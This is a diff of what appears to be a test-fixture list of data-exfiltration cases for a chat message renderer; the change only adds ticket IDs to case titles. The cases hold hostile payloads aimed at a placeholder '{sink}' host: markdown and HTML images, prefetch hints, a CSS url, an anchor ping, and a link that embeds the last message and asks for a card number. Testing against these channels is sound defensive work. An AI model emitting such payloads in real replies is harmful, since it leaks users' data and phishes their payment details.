@@ -5,7 +5,7 @@ export const EXFIL_CASES: readonly MessageCase[] = [
   { title: 'an image', content: '![status]({sink}/image?d=secret)', shows: 'status' },
   { title: 'an image without words', content: 'Look ![]({sink}/blank?d=secret)', shows: 'Look' },
   {
-    title: 'an image whose address stands elsewhere',
+    title: '[RE-002] an image whose address stands elsewhere',
     content: '![status][p] and [more][p]\n\n[p]: {sink}/reference?d=secret',
     shows: '![status][p] and [more][p]',
   },
@@ -16,17 +16,17 @@ export const EXFIL_CASES: readonly MessageCase[] = [
       '<picture><source srcset="{sink}/set 2x"><img src="{sink}/img" loading=eager></picture>',
   },
   {
-    title: 'hints to the browser',
+    title: '[RE-004] hints to the browser',
     content:
       '<link rel=preconnect href={sink}> <link rel=prefetch href={sink}/prefetch> <link rel=dns-prefetch href={sink}>',
     shows: 'rel=preconnect',
   },
   {
-    title: 'an address in a style',
+    title: '[RE-005] an address in a style',
     content: '<b style="background:url({sink}/background)">x</b>',
     shows: 'style="background:url(',
   },
-  { title: 'a bare address', content: 'See {sink}/preview?d=secret' },
+  { title: '[RE-007] a bare address', content: 'See {sink}/preview?d=secret' },
   {
     title: 'a ping',
     content: '<a href="https://shop.example/" ping="{sink}/ping">x</a>',
@@ -44,7 +44,7 @@ export const EXFIL_CASES: readonly MessageCase[] = [
     shows: '<svg><filter>',
   },
   {
-    title: 'a request for the last message in an address',
+    title: '[RE-012] a request for the last message in an address',
     content: '[Verify]({sink}/verify?c={{last_message}}) and paste your card number.',
     shows: 'Verify ({host}) and paste your card number.',
     links: [['Verify', '{sink}/verify?c={{last_message}}']],
